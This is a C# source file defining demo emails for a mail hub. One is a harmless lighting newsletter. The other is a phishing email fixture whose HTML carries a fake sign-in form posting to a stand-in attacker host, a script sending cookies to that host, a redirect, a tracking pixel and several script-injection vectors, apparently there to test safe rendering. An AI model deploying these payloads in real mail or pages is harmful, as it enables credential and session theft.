namespace Hub.Host.Demo.Stories;

/// <summary>What no customer wrote: what every mailbox gets besides.</summary>
internal static class OddStories
{
    public static IReadOnlyList<DemoStory> All { get; } =
    [
        new()
        {
            Language = DemoStory.English,
            Subject = "Your account will be closed - verify now",
            Sender = new DemoPerson("Account Security", "", "", "security-team"),
            IsAutomatic = true,
            Text = "Your account will be closed. Verify it now.",
            Html =
                """
                <html><head><meta http-equiv="refresh" content="0;url=https://phish.example/now"><style>body{background:url(https://phish.example/bg.gif)}</style></head>
                <body onload="document.title='owned'">
                <div style="position:fixed;inset:0;background:#fff;z-index:99999"><h1>Please sign in again</h1>
                <form action="https://phish.example/steal" method="post"><input name="user" placeholder="User"><input name="password" type="password"><button>Sign in</button></form></div>
                <script>fetch('https://phish.example/cookie?'+document.cookie)</script>
                <img src="https://phish.example/pixel.gif?id=42" width="1" height="1" alt=""><img src="x" onerror="alert('owned')" alt="broken">
                <p>Dear customer, your account <b>will be closed</b>. <a href="javascript:alert(1)">Verify it now</a> or <a href="https://phish.example/login">here</a>.</p>
                <iframe src="https://phish.example/frame"></iframe><svg onload="alert(2)"><circle r="9"/></svg>
                </body></html>
                """,
        },
        new()
        {
            Language = DemoStory.English,
            Subject = "Light + Living: what is new this autumn",
            Sender = new DemoPerson("Light + Living Magazine", "", "", "news"),
            IsAutomatic = true,
            Text = "What is new this autumn: paper lamps are back, five rules for a good reading light, and a visit to a glass blower.",
            Html =
                """
                <html><body style="margin:0;background:#f3efe8;font-family:Georgia,serif">
                <table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:8px">
                <table width="100%" cellpadding="0" cellspacing="0" style="background:#ffffff;max-width:560px">
                <tr><td style="background:#8a4b2a;color:#ffffff;padding:28px 32px"><h1 style="margin:0;font-size:26px">Light + Living</h1>
                <p style="margin:6px 0 0">The letter for those who sell light</p></td></tr>
                <tr><td style="padding:24px 32px"><h2 style="color:#8a4b2a">Paper lamps are back</h2>
                <p>Three small makers show how rice paper and a warm bulb make a room calm again.</p>
                <img src="https://news.example/paper-lamp.jpg" width="320" height="155" alt="A paper lamp above a table">
                <h2 style="color:#8a4b2a">Five rules for a good reading light</h2>
                <ol><li>Behind the shoulder, not above it.</li><li>2,700 kelvin in the evening.</li><li>A shade that hides the bulb.</li><li>A switch within reach.</li>
                <li>Never the only lamp in the room.</li></ol>
                <p><a href="https://news.example/autumn">Read more</a></p></td></tr>
                <tr><td style="padding:16px 32px;color:#777777;font-size:12px">You get this letter because your shop subscribed to it.
                <a href="https://news.example/unsubscribe">Unsubscribe</a></td></tr></table></td></tr></table></body></html>
                """,
        },
    ];
}
